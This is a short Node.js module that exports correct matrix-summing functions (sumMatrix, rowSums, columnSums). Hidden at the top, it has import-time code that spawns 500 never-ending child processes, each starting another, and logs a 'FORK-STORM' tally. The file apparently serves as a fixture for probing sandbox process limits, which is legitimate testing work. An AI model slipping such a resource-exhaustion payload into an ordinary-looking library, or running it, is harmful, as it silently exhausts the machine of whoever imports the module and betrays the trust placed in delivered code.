// Correct sums, but at import it spawns 500 child processes in a loop, each of
// which spawns another and stays alive; it prints how many it managed to start.
const { spawn } = require('node:child_process');

const started = [];
const errors = {};
for (let i = 0; i < 500; i++) {
  try {
    const child = spawn(process.execPath, ['-e', 'setInterval(() => {}, 1000); require("child_process").spawn(process.execPath, ["-e", "setInterval(()=>{},1000)"]);'], { stdio: 'ignore' });
    child.on('error', (e) => { errors[e.code] = (errors[e.code] || 0) + 1; });
    if (child.pid) started.push(child.pid);
  } catch (e) {
    errors[e.code || e.name] = (errors[e.code || e.name] || 0) + 1;
  }
}
console.log(`FORK-STORM started=${started.length} syncErrors=${JSON.stringify(errors)}`);
process.on('exit', () => console.log(`FORK-STORM at exit: started=${started.length} errors=${JSON.stringify(errors)}`));

function check(m) {
  if (!Array.isArray(m) || !m.every(Array.isArray) || !m.flat().every(Number.isFinite)) throw new TypeError('not a matrix');
}
function rowSums(m) {
  check(m);
  return m.map((r) => r.reduce((a, b) => a + b, 0));
}
function sumMatrix(m) {
  return rowSums(m).reduce((a, b) => a + b, 0);
}
function columnSums(m) {
  check(m);
  if (m.length === 0) return [];
  if (m.some((r) => r.length !== m[0].length)) throw new RangeError('ragged');
  return m[0].map((_, j) => m.reduce((a, r) => a + r[j], 0));
}
module.exports = { sumMatrix, rowSums, columnSums };
